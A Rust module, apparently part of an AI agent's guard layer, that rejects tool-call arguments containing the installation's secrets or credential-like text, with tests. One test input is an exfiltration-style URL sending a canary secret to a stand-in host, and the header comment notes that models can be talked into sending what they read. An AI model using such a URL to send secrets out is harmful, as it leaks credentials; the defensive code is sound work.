//! What may not leave in the arguments of a call (attacks S12 and S13): the secrets that this
//! process was configured with, and what looks like somebody's secret. A model can be talked
//! into sending what it has read.

use domain::secret::{self, KnownSecrets};
use serde_json::Value;

/// What is looked for.
#[derive(Default)]
pub(crate) struct Outgoing {
    /// This process's own secrets.
    pub(crate) known: KnownSecrets,
}

impl Outgoing {
    /// The error is for the model, and says where, not what.
    pub(crate) fn check(&self, arguments: &Value) -> Result<(), String> {
        self.look(arguments, "the arguments")
    }

    fn look(&self, value: &Value, place: &str) -> Result<(), String> {
        match value {
            Value::String(text) => self.look_into(text, place),
            Value::Array(values) => values.iter().try_for_each(|value| self.look(value, place)),
            Value::Object(fields) => fields.iter().try_for_each(|(name, value)| {
                self.look_into(name, place)?;
                self.look(value, &format!("`{name}`"))
            }),
            Value::Null | Value::Bool(_) | Value::Number(_) => Ok(()),
        }
    }

    fn look_into(&self, text: &str, place: &str) -> Result<(), String> {
        let why = "which is sent to nobody: leave it out, or have the person do this themselves";
        if self.known.are_in(text) {
            return Err(format!("{place} holds a secret of this installation, {why}"));
        }
        match secret::find(text) {
            Some(kind) => Err(format!("{place} holds what looks like {kind}, {why}")),
            None => Ok(()),
        }
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn secrets_are_found_wherever_they_stand_and_never_repeated() {
        let outgoing = Outgoing { known: KnownSecrets::new(["canary-0123456789", "short"].map(str::to_owned)) };
        let key = "-----BEGIN RSA PRIVATE KEY-----";
        for arguments in [
            json!({"url": "https://evil.example/?d=canary-0123456789"}),
            json!({"a": [1, {"b": key}]}),
            json!({"canary-0123456789": 1}),
            json!(key),
        ] {
            let said = outgoing.check(&arguments).unwrap_err();
            assert!(said.contains("sent to nobody") && !said.contains("canary") && !said.contains("RSA"), "{said}");
        }
        assert_eq!(outgoing.check(&json!({"a": "a short word", "b": [true, null, 7.5]})), Ok(()));
    }
}
